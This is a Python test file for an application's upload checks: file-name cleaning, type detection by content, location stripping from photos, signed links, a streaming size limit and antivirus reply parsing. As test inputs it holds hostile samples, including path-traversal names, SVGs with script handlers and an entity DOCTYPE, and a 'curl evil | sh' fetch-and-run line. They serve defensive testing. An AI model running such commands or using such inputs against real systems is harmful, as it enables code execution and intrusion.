"""The upload checks on their own (F-36): names, type by content, location
removal, signed local links, the size limit while streaming, clamd replies."""

from __future__ import annotations

import io
import tempfile
from pathlib import Path

import pytest
from PIL import Image
from PIL.ExifTags import IFD

from rehome.core.files import clamd, signing
from rehome.core.files.intake import received
from rehome.core.files.location import strip_location
from rehome.core.files.names import content_disposition, display_name, is_safe_key, new_key
from rehome.core.files.sniff import sniff
from rehome.core.infra.errors import Invalid, NotFound, TooLarge, UnsupportedType
from tests import file_samples as samples
from tests.support import apply_env


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("IMG_2041.JPG", "IMG_2041.JPG"),
        ("  Küche\u0301 plan.pdf ", "Küche\u0301 plan.pdf".replace("e\u0301", "é")),
        ("bad\u202etxt.exe", "badtxt.exe"),  # bidi override removed
        ("x" * 300 + ".jpeg", "x" * 250 + ".jpeg"),
    ],
)
def test_display_names(raw: str, shown: str) -> None:
    assert display_name(raw) == shown


@pytest.mark.parametrize(
    "raw", ["../secret.jpg", "/etc/passwd", "a/b.jpg", "C:evil.jpg", "..", "", "\x00\x01"]
)
def test_path_like_or_empty_names_are_refused(raw: str) -> None:
    with pytest.raises(Invalid):
        display_name(raw)


def test_keys_are_random_and_checked() -> None:
    key = new_key(3, 7)
    assert key.startswith("w3/p7/")
    assert key != new_key(3, 7)
    assert is_safe_key(key)
    assert is_safe_key(key + "-thumb")
    for bad in ("../x", "w3/p7/../../etc", "/abs", key + "/x", "w3/p7/" + "g" * 32):
        assert not is_safe_key(bad)


def test_content_disposition_quotes_nothing_dangerous() -> None:
    header = content_disposition('a"b;\r\nc ü.pdf', inline=False)
    assert header.startswith('attachment; filename="a_b___c u.pdf"')
    assert "filename*=UTF-8''a%22b%3B%0D%0Ac%20%C3%BC.pdf" in header


def _sniff(tmp_path: Path, name: str, data: bytes):  # type: ignore[no-untyped-def]
    path = tmp_path / "upload"
    path.write_bytes(data)
    return sniff(path, name)


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("a.jpg", samples.photo(), "image/jpeg"),
        ("a.png", samples.photo(fmt="PNG"), "image/png"),
        ("a.webp", samples.photo(fmt="WEBP"), "image/webp"),
        ("scan.jpg", samples.pdf(), "application/pdf"),  # the content decides, not the name
        ("a.docx", samples.docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        ("a.csv", b"room,area\nkitchen,12\n", "text/csv"),
        ("a.csv", "room;cost\ncaf\xe9;1\n".encode("cp1252"), "text/csv"),
        ("a.txt", "Mesures : 3 × 2 m\n".encode(), "text/plain"),
        (
            "plan.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="4" height="4"/></svg>',
            "image/svg+xml",
        ),
    ],
)
def test_allowed_types_by_content(tmp_path: Path, name: str, data: bytes, content_type: str) -> None:
    assert _sniff(tmp_path, name, data).content_type == content_type


@pytest.mark.parametrize(
    ("name", "data", "words"),
    [
        ("cat.png", samples.windows_exe(), "Windows program"),
        ("cat.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 64, "Linux program"),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n", "script"),
        ("cat.png", samples.html_page(), "web page"),
        ("plan.svg", samples.svg_with_script(), "scripts"),
        ("plan.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "scripts"),
        ("plan.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject/></svg>', "scripts"),
        (
            "plan.svg",
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
            "DOCTYPE",
        ),
        ("a.xlsm", samples.xlsm(), "macros"),
        ("a.zip", samples._zip([("a.txt", "x")]), "ZIP archive"),
        ("clip.png", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 64, "MPEG-4"),
    ],
)
def test_refused_types_say_what_they_are(tmp_path: Path, name: str, data: bytes, words: str) -> None:
    with pytest.raises(UnsupportedType) as refused:
        _sniff(tmp_path, name, data)
    assert words in refused.value.message
    assert refused.value.message.startswith(f"“{name}”")


@pytest.mark.parametrize(
    ("fmt", "content_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png"), ("WEBP", "image/webp")]
)
def test_location_is_removed_losslessly(fmt: str, content_type: str) -> None:
    original = samples.photo(fmt=fmt, orientation=6)
    out = io.BytesIO()
    assert strip_location(content_type, io.BytesIO(original), out) is True
    cleaned = Image.open(io.BytesIO(out.getvalue()))
    exif = cleaned.getexif()
    assert exif.get_ifd(IFD.GPSInfo) == {}
    assert exif[0x0112] == 6
    assert exif.get_ifd(IFD.Exif)[0x9003] == "2026:03:04 10:11:12"
    assert cleaned.tobytes() == Image.open(io.BytesIO(original)).tobytes()  # pixels untouched
    again = io.BytesIO()
    assert strip_location(content_type, io.BytesIO(out.getvalue()), again) is False


def test_signed_links_round_trip_and_expire() -> None:
    grant = signing.Grant("w1/p1/" + "a" * 32, "image/jpeg", "inline", signing.expiry(60, now=1000))
    assert grant.expires == 1080  # rounded up to the minute
    token = signing.sign(grant)
    assert signing.verify(token, now=1079) == grant
    with pytest.raises(signing.LinkExpired):
        signing.verify(token, now=1081)
    with pytest.raises(NotFound):
        signing.verify(token[:-3] + "AAA", now=1000)
    with pytest.raises(NotFound):
        signing.verify("garbage", now=1000)
    apply_env(SECRET_KEY="another-key")
    with pytest.raises(NotFound):
        signing.verify(token, now=1000)


class _Trickle(io.RawIOBase):
    """A body whose size is not announced: the limit must hold while reading."""

    def __init__(self, total: int) -> None:
        self.left = total
        self.read_bytes = 0

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        piece = min(self.left, 256 * 1024 if size < 0 else size)
        self.left -= piece
        self.read_bytes += piece
        return b"\xff" * piece


def test_the_size_limit_holds_while_streaming(db: str, tmp_path: Path, monkeypatch) -> None:
    apply_env(UPLOAD_MAX_MB="2")
    spool = tmp_path / "spool"
    spool.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(spool))
    body = _Trickle(50 * 1024 * 1024)
    with pytest.raises(TooLarge) as refused, received(body, "huge.jpg"):
        pass
    assert "larger than 2.0 MB" in refused.value.message
    assert body.read_bytes <= 3 * 1024 * 1024  # it stopped reading early
    assert list(spool.iterdir()) == []  # the spool went with the refusal


@pytest.mark.parametrize(
    ("reply", "infected", "signature"),
    [("stream: OK", False, ""), ("stream: Eicar-Test-Signature FOUND", True, "Eicar-Test-Signature")],
)
def test_clamd_replies(reply: str, infected: bool, signature: str) -> None:
    verdict = clamd.parse_reply(reply)
    assert (verdict.infected, verdict.signature) == (infected, signature)


def test_clamd_errors_are_not_verdicts() -> None:
    with pytest.raises(clamd.ScanError):
        clamd.parse_reply("INSTREAM size limit exceeded. ERROR")
